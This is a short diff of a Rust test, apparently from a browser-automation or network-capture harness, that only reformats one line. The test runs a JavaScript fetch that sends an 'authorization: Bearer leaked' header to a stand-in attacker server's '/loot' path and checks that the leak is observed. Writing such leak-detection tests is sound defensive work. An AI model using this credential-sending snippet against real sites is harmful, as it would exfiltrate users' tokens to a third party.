@@ -31,9 +31,7 @@ async fn the_attacker_sees_a_leaked_header_and_referer() {
     let (browser, _app, traffic) = page().await;
     let evil = Evil::start(&traffic).await;
     let leak = "return fetch(arguments[0], { headers: { authorization: 'Bearer leaked' } }).then(r => r.status)";
-    let status = browser
-        .run(leak, vec![format!("{}/loot", evil.origin).into()])
-        .await;
+    let status = browser.run(leak, vec![format!("{}/loot", evil.origin).into()]).await;
     assert_eq!(status, 200);
     let seen = traffic.seen_by(Evil::NAME);
     assert_eq!(seen.len(), 1);
